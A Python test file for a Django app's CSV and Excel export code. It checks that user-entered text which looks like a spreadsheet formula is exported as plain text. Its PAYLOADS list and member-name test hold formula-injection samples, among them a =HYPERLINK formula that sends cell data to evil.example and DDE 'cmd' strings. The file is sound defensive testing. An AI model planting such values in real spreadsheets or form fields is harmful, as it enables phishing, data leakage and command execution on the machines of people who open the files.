"""Spreadsheet formula injection: text that people typed (names, positions, question text, unit
names) must reach an export as text, never as a formula Excel or LibreOffice would run when the
organiser opens the file (=HYPERLINK to a phishing site, =cmd|... DDE, @SUM...)."""

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

from accounts.exports import Table, table_to_csv, table_to_xlsx
from tests.factories import make_user

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_it_neutralises_formula_text_in_csv_cells():
    rows = _csv_rows(table_to_csv(Table("T", ["Họ và tên"], [[p] for p in PAYLOADS])))
    for payload, (cell,) in zip(PAYLOADS, rows[1:], strict=True):
        assert cell == "'" + payload


def test_it_keeps_numbers_and_ordinary_text_in_csv_as_they_are():
    rows = _csv_rows(table_to_csv(Table("T", ["A", "B", "C", "D"], [[-3, -1.5, "Nguyễn Văn A", "09******78"]])))
    assert rows[1] == ["-3", "-1.5", "Nguyễn Văn A", "09******78"]


def test_it_writes_formula_text_to_xlsx_as_text_not_formulas():
    sheet = load_workbook(io.BytesIO(table_to_xlsx(Table("T", ["Họ và tên"], [[p] for p in PAYLOADS])))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == PAYLOADS
    assert all(cell.data_type == "s" for cell in cells)
    # Excel's own mark for "typed with a leading apostrophe": it stays text even after editing.
    assert all(cell.quotePrefix for cell in cells)


def test_it_keeps_negative_numbers_in_xlsx_as_numbers():
    sheet = load_workbook(io.BytesIO(table_to_xlsx(Table("T", ["A"], [[-3]])))).active
    assert sheet["A2"].value == -3 and sheet["A2"].data_type == "n"


def test_a_member_named_like_a_formula_is_exported_as_text(organiser_client, unit_a):
    make_user(unit=unit_a, full_name='=HYPERLINK("http://evil.example","Xem")', position="@SUM(A1)")
    response = organiser_client.get(reverse("reports:unit_pending", args=[unit_a.pk]),
                                    {"fmt": "csv", "which": "contest"})
    assert response.status_code == 200
    rows = _csv_rows(response.content)
    assert rows[1][:3] == ["'=HYPERLINK(\"http://evil.example\",\"Xem\")", "Phòng A", "'@SUM(A1)"]

    response = organiser_client.get(reverse("reports:unit_pending", args=[unit_a.pk]), {"which": "contest"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value.startswith("=HYPERLINK")
